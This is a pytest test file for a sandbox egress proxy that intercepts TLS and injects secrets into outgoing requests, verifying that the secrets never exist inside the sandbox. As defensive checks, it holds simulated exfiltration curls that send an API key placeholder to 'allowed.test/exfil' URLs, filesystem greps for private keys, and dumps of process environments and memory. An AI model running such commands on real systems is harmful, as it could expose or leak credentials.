"""TLS interception with coved's CA, and secrets the proxy injects, attacked
from inside a sandbox in the network lab (netlab): header templates over
HTTPS and HTTP, keep-alive, chunked and streamed bodies through
interception, untouched tunnels, upstream verification, placeholders and
exfiltration, the secrets API, and proof that no secret ever exists inside
the sandbox (files, environments, memory)."""

import json
import os
import re
import secrets
import stat

import pytest

from helpers import descendants, unique_id, wait_until
from netlab.harness import run, set_policy, sh_quote, start_coved, start_lab, stop_coved, stop_lab

pytestmark = pytest.mark.network

SECRET = "ghs-" + secrets.token_hex(20)      # injected by setHeaders
KEY_SECRET = "sk-" + secrets.token_hex(20)   # behind a placeholder

POLICY = {
    "enableInternet": True,
    "rules": [
        {"host": "api.tls.test", "pathPrefix": "/missing", "setHeaders": {"X-Token": "{{secret.NOT_SET}}"}},
        {"host": "api.tls.test", "setHeaders": {"Authorization": "Bearer {{secret.GITHUB_TOKEN}}"}},
        {"host": "wrong.tls.test", "setHeaders": {"Authorization": "Bearer {{secret.GITHUB_TOKEN}}"}},
        {"host": "allowed.test", "setHeaders": {"Authorization": "Bearer {{secret.GITHUB_TOKEN}}"}},
    ],
}


@pytest.fixture(scope="module")
def lab():
    lab, base = start_lab("cove-e2e-sec-")
    yield lab
    stop_lab(lab, base)


@pytest.fixture(scope="module")
def net(lab):
    c, api = start_coved(lab, ["--upstream-ca", lab.ca_cert])
    yield c, api
    stop_coved(lab, c, api)


@pytest.fixture(scope="module")
def placeholder(net):
    _, api = net
    r = api.request("PUT", "/v1/secrets/GITHUB_TOKEN", json_body={"value": SECRET})
    assert r.status_code == 200, r.text
    r = api.request("PUT", "/v1/secrets/API_KEY",
                    json_body={"value": KEY_SECRET, "placeholder": True, "hosts": ["api.tls.test"]})
    assert r.status_code == 200, r.text
    token = r.json()["placeholder"]
    assert token.startswith("cove-placeholder-")
    return token


@pytest.fixture(scope="module")
def sbx(net, placeholder):
    _, api = net
    sid = unique_id("sec")
    api.create(id=sid, env={"API_KEY": placeholder}, egress=POLICY)
    return sid


def world(lab, path):
    return [r for r in lab.world_requests() if r.get("path") == path]


def curl(api, sid, args, timeout=60):
    return run(api, sid, f"curl -sS --max-time 15 {args}", timeout=timeout)


def test_sandbox_trusts_coveds_ca_and_holds_no_key(net, sbx):
    c, api = net
    code, out, _ = run(api, sbx, "echo $SSL_CERT_FILE $REQUESTS_CA_BUNDLE $CURL_CA_BUNDLE $GIT_SSL_CAINFO "
                                 "$NODE_EXTRA_CA_CERTS; ls /etc/cove")
    env, files = out.split("\n", 1)
    assert env.split() == ["/etc/cove/ca-bundle.crt"] * 4 + ["/etc/cove/ca.crt"]
    assert files.split() == ["ca-bundle.crt", "ca.crt"]
    with open(os.path.join(c.state_dir, "ca", "ca.crt")) as f:
        ca = f.read()
    code, out, _ = run(api, sbx, "cat /etc/cove/ca.crt; grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt")
    assert out.startswith(ca)
    assert int(out.splitlines()[-1]) >= 1
    assert stat.S_IMODE(os.stat(os.path.join(c.state_dir, "ca", "ca.key")).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.join(c.state_dir, "ca", "ca.crt")).st_mode) == 0o644
    code, out, _ = run(api, sbx, "grep -rl 'PRIVATE KEY' /etc /root /home /tmp /workspace 2>/dev/null | head -5")
    assert out.strip() == ""


@pytest.mark.parametrize("flags", ["", "--noproxy '*'"])
def test_https_interception_injects_the_header(net, lab, sbx, flags):
    _, api = net
    path = f"/x{len(flags)}"
    code, out, err = curl(api, sbx, f"-v {flags} https://api.tls.test{path}")
    assert code == 0, err
    assert "cove egress CA" in err, err          # the sandbox saw coved's leaf, and trusted it
    assert SECRET not in out + err
    body = json.loads(out)
    assert body["tls"] is True and "Authorization" in body["headers"]
    seen = world(lab, path)
    assert len(seen) == 1 and seen[0]["tls"] is True
    assert seen[0]["headers"]["Authorization"] == f"Bearer {SECRET}"


def test_python_trusts_the_interception_too(net, lab, sbx):
    _, api = net
    script = "import urllib.request; print(urllib.request.urlopen('https://api.tls.test/py', timeout=15).status)"
    code, out, err = run(api, sbx, f"python3 -c {sh_quote(script)}")
    assert (code, out.strip()) == (0, "200"), err
    assert world(lab, "/py")[0]["headers"]["Authorization"] == f"Bearer {SECRET}"


def test_http_injects_the_header(net, lab, sbx):
    _, api = net
    for flags in ("", "--noproxy '*'"):
        path = f"/h{len(flags)}"
        code, out, err = curl(api, sbx, f"{flags} http://allowed.test{path}")
        assert code == 0, err
        assert SECRET not in out
        assert world(lab, path)[0]["headers"]["Authorization"] == f"Bearer {SECRET}"


def test_keep_alive_chunked_and_streamed_bodies_through_interception(net, lab, sbx):
    _, api = net
    code, out, err = curl(api, sbx, "-v https://api.tls.test/ka1 https://api.tls.test/ka2")
    assert code == 0, err
    assert re.search(r"Re-?using existing connection", err), err
    assert len(world(lab, "/ka1")) == 1 and len(world(lab, "/ka2")) == 1
    data = "chunk-" * 5000
    code, out, err = run(api, sbx, f"printf %s {data} > /tmp/body && curl -sS --max-time 15 -H 'Transfer-Encoding: chunked' "
                                   f"--data-binary @/tmp/body https://api.tls.test/post")
    assert code == 0, err
    posted = world(lab, "/post")
    assert posted[0]["method"] == "POST" and posted[0]["body"] == data
    assert posted[0]["headers"]["Authorization"] == f"Bearer {SECRET}"
    code, out, err = curl(api, sbx, "https://api.tls.test/stream")
    assert code == 0, err
    assert out == "".join(f"part{i}\n" for i in range(5))


def test_host_without_interception_rules_is_tunnelled_untouched(net, lab, sbx):
    _, api = net
    code, out, err = curl(api, sbx, "-kv https://tls.test/tunnel")
    assert code == 0, err
    assert "cove test world CA" in err and "cove egress CA" not in err, err
    code, out, err = run(api, sbx, "openssl s_client -connect tls.test:443 -servername tls.test </dev/null 2>&1 | "
                                   "grep -i 'issuer'")
    assert "cove test world CA" in out and "cove egress" not in out, out
    seen = world(lab, "/tunnel")
    assert len(seen) == 1 and "Authorization" not in seen[0]["headers"]


def test_upstream_certificate_is_verified(net, lab, sbx):
    _, api = net
    code, out, err = run(api, sbx, "curl -s --max-time 15 -w '\\n%{http_code}' https://wrong.tls.test/v")
    body, status = out.rsplit("\n", 1)
    assert status == "502", out
    assert "certificate verification failed" in body, body
    assert not world(lab, "/v")


def test_template_naming_a_missing_secret_is_denied(net, lab, sbx):
    _, api = net
    code, out, err = run(api, sbx, "curl -s --max-time 15 -o /tmp/m -w '%{http_code}\n' https://api.tls.test/missing/x;"
                                   " cat /tmp/m")
    status, body = out.split("\n", 1)
    assert status == "403", out
    assert "secret NOT_SET is not set" in body, body
    assert not world(lab, "/missing/x")


def test_placeholder_is_replaced_for_its_host_and_blocked_elsewhere(net, lab, sbx, placeholder):
    _, api = net
    code, out, _ = run(api, sbx, "echo $API_KEY")
    assert out.strip() == placeholder
    code, out, err = curl(api, sbx, "-H \"X-Api-Key: $API_KEY\" \"https://api.tls.test/p?key=$API_KEY\"")
    assert code == 0, err
    seen = [r for r in lab.world_requests() if r.get("path", "").startswith("/p?")]
    assert seen[0]["headers"]["X-Api-Key"] == KEY_SECRET
    assert seen[0]["path"] == f"/p?key={KEY_SECRET}"
    assert KEY_SECRET not in out
    for flags, url in (("", "http://allowed.test/exfil1"), ("--noproxy '*'", "http://allowed.test/exfil2"),
                       ("", "http://allowed.test/exfil3?k=$API_KEY")):
        header = "" if "?" in url else "-H \"X-Api-Key: $API_KEY\""
        code, out, _ = run(api, sbx, f"curl -s -o /dev/null -w '%{{http_code}}' --max-time 15 {flags} {header} \"{url}\"")
        assert out == "403", (url, out)
    r = api.get(f"/v1/sandboxes/{sbx}/egress/denials")
    reasons = [d["reason"] for d in r.json()["denials"]]
    assert sum("exfiltration attempt" in why and "API_KEY" in why for why in reasons) >= 3, reasons
    for entry in lab.world_requests():
        if entry.get("path", "").startswith("/exfil"):
            pytest.fail(f"the world got {entry}")
        text = json.dumps(entry)
        if entry.get("server") != "198.51.100.11":
            assert KEY_SECRET not in text and placeholder not in text, entry


def test_a_host_bound_to_a_placeholder_is_intercepted_without_a_rule(net, lab, sbx):
    _, api = net
    set_policy(api, sbx, {"enableInternet": True})
    try:
        code, out, err = curl(api, sbx, "-v -H \"X-Api-Key: $API_KEY\" https://api.tls.test/bound")
        assert code == 0, err
        assert "cove egress CA" in err, err
        seen = world(lab, "/bound")
        assert seen[0]["headers"]["X-Api-Key"] == KEY_SECRET
        assert "Authorization" not in seen[0]["headers"]  # no rule: nothing else added
    finally:
        set_policy(api, sbx, POLICY)


def sandbox_pids(api, sid):
    pid = api.info(sid)["pid"]
    assert pid > 0
    return descendants(pid)


def memory_contains(pid, needles):
    found = set()
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return found
    with mem:
        for line in maps:
            fields = line.split()
            if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for n in needles:
                if n in chunk:
                    found.add(n)
    return found


def test_secrets_never_exist_inside_the_sandbox(net, lab, sbx):
    _, api = net
    # After every request above (run this module's tests in order), once more.
    code, out, err = curl(api, sbx, "https://api.tls.test/last -H \"X-Api-Key: $API_KEY\"")
    assert code == 0, err
    assert world(lab, "/last")[0]["headers"]["X-Api-Key"] == KEY_SECRET
    # Memory first (from the host: every process of the sandbox), then files
    # and environments from inside. The searches inside name each value in
    # two halves only, so that they do not bring it into the sandbox.
    needles = [SECRET.encode(), KEY_SECRET.encode()]
    pids = sandbox_pids(api, sbx)
    assert len(pids) >= 1
    for pid in pids:
        assert memory_contains(pid, needles) == set(), pid
    code, out, _ = run(api, sbx, "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null | "
                                 "grep -c ^API_KEY=cove-placeholder-")
    assert int(out) >= 1  # the search sees the environments (the placeholder is there)
    for value in (SECRET, KEY_SECRET):
        h1, h2 = value[:len(value) // 2], value[len(value) // 2:]
        code, out, _ = run(api, sbx, "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null | "
                                     f"grep -F {h1} | grep -c -F {h2}")
        assert out.strip() == "0", value
        code, out, err = run(api, sbx, f"grep -rlsF --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev {h1} / "
                                       f"| xargs -r grep -lsF {h2} | head -5", timeout=600)
        assert out.strip() == "", (value, out, err)
    # The same search finds a value that is there (the search works).
    api.exec(sbx, "python3 -c \"import time; x = 'canary-' + str(6 * 7) + '-value'; time.sleep(120)\" "
             ">/dev/null 2>&1 &", session="canary")
    wait_until(lambda: any(memory_contains(p, [b"canary-42-value"]) for p in sandbox_pids(api, sbx)), 30)


def test_secrets_api(net):
    c, api = net
    r = api.get("/v1/secrets")
    assert r.status_code == 200
    assert SECRET not in r.text and KEY_SECRET not in r.text
    names = {s["name"]: s for s in r.json()["secrets"]}
    assert {"GITHUB_TOKEN", "API_KEY"} <= set(names)
    assert all("value" not in s for s in names.values())
    assert names["API_KEY"]["hosts"] == ["api.tls.test"]
    r = api.get("/v1/secrets/API_KEY")
    assert r.status_code == 200 and KEY_SECRET not in r.text
    for bad in ("lower", "A-B", "A" * 65):
        assert api.request("PUT", f"/v1/secrets/{bad}", json_body={"value": "x"}).status_code == 400
    assert api.request("PUT", "/v1/secrets/EMPTY", json_body={}).status_code == 400
    assert api.request("PUT", "/v1/secrets/PH", json_body={"value": "x", "placeholder": True}).status_code == 400
    assert api.get("/v1/secrets/UNKNOWN").status_code == 404
    assert api.delete("/v1/secrets/UNKNOWN").status_code == 404
    r = api.request("PUT", "/v1/secrets/TEMP", json_body={"value": "temporary"})
    assert r.status_code == 200 and "temporary" not in r.text
    assert api.delete("/v1/secrets/TEMP").status_code == 200
    assert api.get("/v1/secrets/TEMP").status_code == 404
    path = os.path.join(c.state_dir, "secrets.json")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert api.request("GET", "/v1/secrets", auth=False).status_code == 401
